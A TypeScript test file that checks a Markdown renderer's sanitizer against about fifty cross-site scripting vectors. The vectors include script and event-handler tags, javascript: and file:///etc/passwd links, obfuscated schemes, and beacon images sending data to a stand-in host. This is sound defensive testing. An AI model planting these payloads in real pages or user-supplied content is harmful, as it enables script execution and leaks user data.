import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { show } from '../../../test/page/open-page.tsx'
import { Markdown } from './markdown.tsx'

/** Ways into a page by what a model or a document writes; each would set `globalThis.stolen`, or load from elsewhere. */
const run = 'globalThis.stolen=1'
const vectors = [
  `<script>${run}</script>`,
  `<ScRiPt src="https://ailleurs.test/x.js"></sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://ailleurs.test/pixel.png">`,
  `<img/src/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="https://ailleurs.test/x">`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}"><summary>a</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<marquee onstart="${run}">a</marquee>`,
  `<form action="https://ailleurs.test"><button>a</button></form>`,
  `<base href="https://ailleurs.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://ailleurs.test">`,
  `<link rel="stylesheet" href="https://ailleurs.test/x.css">`,
  `<style>@import "https://ailleurs.test/x.css";</style>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<a href="javascript:${run}">a</a>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java&#115;cript:${run})`,
  `[a](java\u0000script:${run})`,
  `[a](<java\tscript:${run}>)`,
  `[a](vbscript:${run})`,
  `[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  `[a](blob:https://ailleurs.test/x)`,
  `[a](file:///etc/passwd)`,
  `<javascript:${run}>`,
  `[a][b]\n\n[b]: javascript:${run}`,
  `![a](https://ailleurs.test/pixel.png?secret=1)`,
  `![a][b]\n\n[b]: https://ailleurs.test/pixel.png`,
  `[![a](https://ailleurs.test/p.png)](javascript:${run})`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `# <img src=x onerror=${run}>`,
  `- <svg/onload=${run}>`,
  `> <iframe src=javascript:${run}>`,
  `a <img src=x onerror=${run}\n> b`,
  `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
]

const allowedTags = new Set(
  'A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI MARK OL P PRE SECTION SPAN STRONG SUP TABLE TBODY TD TH THEAD TR UL FIGURE FIGCAPTION SVG PATH RECT CIRCLE G USE'.split(
    ' ',
  ),
)

describe('nothing that is written runs, loads or sends anything', () => {
  assert.ok(vectors.length >= 40)
  for (const [index, vector] of vectors.entries()) {
    test(`${index + 1}: ${vector.split('\n')[0]}`, async () => {
      await show(<Markdown source={vector} />)
      for (const element of document.querySelectorAll('body *')) {
        const told = element.outerHTML.slice(0, 200)
        assert.ok(allowedTags.has(element.tagName.toUpperCase()), told)
        for (const { name, value } of element.attributes) {
          assert.ok(!name.startsWith('on') && !['src', 'srcset', 'srcdoc', 'action', 'formaction'].includes(name), told)
          if (name === 'href' || name === 'xlink:href') assert.match(value, /^(?:https?:|mailto:|#|\/(?!\/))/i, told)
        }
      }
      assert.ok(!('stolen' in globalThis))
    })
  }
})
